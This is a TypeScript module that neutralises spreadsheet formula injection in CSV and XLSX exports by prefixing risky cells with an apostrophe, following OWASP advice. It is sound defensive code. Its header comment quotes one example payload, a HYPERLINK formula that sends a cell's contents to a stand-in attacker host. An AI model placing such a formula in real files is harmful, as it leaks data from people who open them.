/**
 * Spreadsheet exports are safe to open (DESIGN.md "Rules of the house"): a text cell that a
 * spreadsheet would read as a formula is neutralised with a leading apostrophe, as the OWASP
 * guidance on CSV injection advises. A cell starting with = + - @ (or a tab or carriage return,
 * which some spreadsheets skip before looking for a formula) could otherwise run a formula, e.g.
 * `=HYPERLINK("http://evil.example/?"&A1)`, when an officer opens the file.
 *
 * What this means for the seed's own values: a target written "+1356" or "-5%" is text, not a
 * number, and stays text. In the CSV it reads `'+1356`: Excel and LibreOffice show the apostrophe
 * (a CSV cell has no way to say "this is text" otherwise), and anyone reading the file with a
 * program sees it too and should strip one leading apostrophe before a + - = @. In the XLSX the
 * cell is a text cell holding `'+1356` as well, so that copying its value into another sheet or
 * saving the sheet as CSV cannot turn it into a formula there.
 *
 * The full-width forms (＝ ＋ － ＠) are neutralised too: some spreadsheets normalise them to
 * their ASCII forms when a cell is edited.
 */

/** The characters that make a spreadsheet treat a cell as a formula (OWASP), and their full-width forms. */
const formulaTriggers = new Set(["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]);

/** True when a spreadsheet might read the text as a formula. */
export function looksLikeFormula(text: string): boolean {
  const first = text.charAt(0);
  return first !== "" && formulaTriggers.has(first);
}

/** The text, with a leading apostrophe when a spreadsheet might otherwise read it as a formula. */
export function neutraliseCell(text: string): string {
  return looksLikeFormula(text) ? `'${text}` : text;
}

/**
 * A figure written as a plain decimal (-5, 67.5) is a number to a spreadsheet and cannot run a
 * formula, so it is left as it is (a program reading the file, DHIS2 say, reads -5, not '-5);
 * anything else is neutralised as text.
 */
export function neutraliseUnlessNumber(text: string): string {
  return /^-?\d+(\.\d+)?$/.test(text) ? text : neutraliseCell(text);
}
